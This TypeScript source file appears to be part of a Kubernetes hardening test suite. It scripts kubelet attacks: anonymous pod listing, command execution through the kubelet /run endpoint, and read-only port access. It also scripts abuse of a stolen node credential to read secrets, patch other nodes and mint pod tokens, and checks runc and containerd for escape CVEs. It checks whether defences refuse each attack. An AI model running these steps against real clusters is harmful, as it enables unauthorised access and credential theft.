import { type Attack, joined, type Outcome, said, type Target, textOf } from './attack';
import { accountToken, scenery } from './scenery';
import { apiUrl, curl, curlCommand, liftFirewall, stolenKubeletCredential } from './steps';

const kubelet = (target: Target, path: string, port = 10250) =>
  `${port === 10250 ? 'https' : 'http'}://${target.victim.address}:${port}${path}`;

/** The same request from a place that the firewall lets through, and from outside. */
async function insideAndOutside(target: Target, ...args: readonly string[]): Promise<Outcome> {
  const inside = await target.onNode(target.controlPlane, curlCommand(...args));
  const outside = await target.outside(curl(...args));
  const short = (outcome: Outcome) => textOf({ ...outcome, stdout: outcome.stdout.slice(0, 400) + status(outcome) });
  return said(`inside: ${short(inside)}\noutside: ${short(outside)}`, outside.code);
}

const status = ({ stdout }: Outcome): string => `\n${/HTTP \d+\s*$/.exec(stdout)?.[0] ?? ''}`;

/** A stolen kubelet credential, used with kubectl. */
async function asKubelet(target: Target, ...commands: readonly (readonly string[])[]): Promise<Outcome> {
  const as = await stolenKubeletCredential(target);
  const outcomes: Outcome[] = [];
  for (const args of commands) outcomes.push(await target.kubectl(args, { as }));
  return joined(...outcomes);
}

/**
 * Changes a node with the credential of the broken-into one, on that node and without a look first: kubectl reads
 * before it writes, and a kubelet may not even read another node.
 */
async function patchNode(target: Target, node: string, patch: object): Promise<Outcome> {
  const credential = '/var/lib/kubelet/pki/kubelet-client-current.pem';
  const type = 'Content-Type: application/strategic-merge-patch+json';
  return target.onNode(
    target.victim,
    curlCommand(
      ...['--cert', credential, '--key', credential, '-X', 'PATCH', '-H', type, '-d', JSON.stringify(patch)],
      apiUrl(target, `/api/v1/nodes/${node}?dryRun=All&pretty=false`),
    ),
  );
}

/** Attacks on kubelets, and with what a broken-into node gives away. */
export const nodeAttacks: readonly Attack[] = [
  {
    id: 'A16',
    title: 'Ask a kubelet for its pods without any credential',
    source: 'kube-hunter ProveAnonymousAuth; Talos FirewallSuite.TestKubeletAccess',
    weakness: 'kubelet-open',
    run: (target) => insideAndOutside(target, kubelet(target, '/pods')),
    refused: /inside: Unauthorized\s+HTTP 401[\s\S]*outside: \s+HTTP 000[\s\S]*curl: \(28\)/,
    succeeds: /outside: [\s\S]*"kind":"PodList"[\s\S]*HTTP 200/,
    lift: { ...liftFirewall((target) => target.victim), opens: /outside: Unauthorized\s+HTTP 401/ },
  },
  {
    id: 'A16/run',
    title: 'Run a command through a kubelet without any credential',
    source: 'kube-hunter ProveRunHandler',
    weakness: 'kubelet-open',
    run: (target) => {
      const url = kubelet(target, `/run/${scenery.tenant}/web/web?cmd=id`);
      return target.onNode(target.controlPlane, curlCommand('-X', 'POST', url));
    },
    refused: /^Unauthorized\s+HTTP 401/,
    succeeds: /uid=65532[\s\S]*HTTP 200/,
  },
  {
    id: 'A17',
    title: "Read pods from the kubelet's read-only port",
    source: 'kube-hunter ReadOnlyKubeletPortHunter; CVE-2025-0426',
    weakness: 'kubelet-open',
    run: (target) => target.onNode(target.controlPlane, curlCommand(kubelet(target, '/pods', 10255))),
    refused: /curl: \(7\) Failed to connect to [\d.]+ port 10255[\s\S]*exit 7$/,
    succeeds: /"kind":"PodList"[\s\S]*HTTP 200/,
  },
  {
    id: 'A18',
    title: "Ask a kubelet for its pods with a pod's token",
    source: 'KubeHound POD_EXEC; peirates exec-via-kubelet',
    weakness: 'kubelet-open',
    async run(target) {
      const token = await accountToken(target, 'tenant');
      const url = kubelet(target, '/runningpods/');
      return target.onNode(target.controlPlane, curlCommand('-H', `Authorization: Bearer ${token}`, url));
    },
    refused:
      /Forbidden \(user=system:serviceaccount:tenant-a:tenant, verb=get, resource=nodes, subresource\(?s?\)?=\[?[^)]*\)\s+HTTP 403/,
    succeeds: /"kind":"PodList"[\s\S]*HTTP 200/,
  },
  {
    id: 'A25',
    title: "Read another namespace's secret with a stolen kubelet credential",
    source: 'peirates nodefs-steal-secrets',
    weakness: 'no-node-authorizer',
    run: (target) => asKubelet(target, ['get', 'secret', '-n', scenery.app, 'db', '-o', 'name']),
    refused:
      /secrets "db" is forbidden: User "system:node:([\w-]+)" cannot get resource "secrets" in API group "" in the namespace "app": no relationship found between node '\1' and this object/,
    succeeds: /^secret\/db$/m,
  },
  {
    id: 'A26',
    title: 'Relabel another node, pose as a trusted one, and shed a taint with a stolen kubelet credential',
    source: 'Microsoft MS-M9027; kubernetes noderestriction/admission.go',
    weakness: 'no-node-restriction',
    async run(target) {
      const { name } = target.victim;
      return joined(
        await patchNode(target, target.otherNode, { metadata: { labels: { x: 'y' } } }),
        await patchNode(target, name, { metadata: { labels: { 'node-restriction.kubernetes.io/tier': 'gold' } } }),
        await patchNode(target, name, { spec: { taints: [{ key: 'lure', effect: 'NoSchedule' }] } }),
      );
    },
    refused:
      /node \\"[\w-]+\\" is not allowed to modify node \\"[\w-]+\\"[\s\S]*is not allowed to modify labels: node-restriction\.kubernetes\.io\/tier[\s\S]*is not allowed to modify taints/,
    succeeds: /"x":"y"[\s\S]*HTTP 200[\s\S]*tier":"gold"[\s\S]*HTTP 200[\s\S]*"key":"lure"[\s\S]*HTTP 200/,
  },
  {
    id: 'A28',
    title: 'Mint a token for a pod of another node with a stolen kubelet credential',
    source: 'kubernetes noderestriction/admission.go',
    weakness: 'no-node-restriction',
    async run(target) {
      const uid = await target.kubectl([
        'get',
        'pod',
        '-n',
        scenery.app,
        'elsewhere',
        '-o',
        'jsonpath={.metadata.uid}',
      ]);
      const bound = ['--bound-object-kind=Pod', '--bound-object-name=elsewhere', `--bound-object-uid=${uid.stdout}`];
      const minted = await asKubelet(target, ['create', 'token', '-n', scenery.app, 'default', ...bound]);
      return { ...minted, stdout: minted.stdout.startsWith('eyJ') ? 'a token was minted' : minted.stdout };
    },
    refused: /node requested token bound to a pod scheduled on a different node/,
    succeeds: /a token was minted/,
  },
  {
    id: 'A43',
    title: 'A runc or containerd with known ways out of the container',
    source: 'CVE-2025-31133, CVE-2025-52565, CVE-2025-52881, CVE-2024-21626',
    weakness: 'old-runc',
    async run(target) {
      const { stdout } = await target.onNode(target.victim, 'runc --version; containerd --version');
      const runc = /runc version v?(\d+)\.(\d+)\.(\d+)/.exec(stdout);
      const containerd = /containerd \S+ v?(\d+)\.(\d+)\.(\d+)/.exec(stdout);
      const fixed = atLeast(runc, [1, 3, 3]) && atLeast(containerd, [2, 1, 5]);
      return said(`${fixed ? 'fixed' : 'vulnerable'}: ${runc?.[0]}, ${containerd?.[0]}`);
    },
    refused: /^fixed: runc version .*, containerd /,
    succeeds: /^vulnerable: runc version /,
  },
];

function atLeast(found: RegExpExecArray | null, floor: readonly number[]): boolean {
  if (!found) return false;
  const version = found.slice(1).map(Number);
  const differing = floor.findIndex((part, index) => version[index] !== part);
  return differing === -1 || (version[differing] ?? 0) > (floor[differing] ?? 0);
}
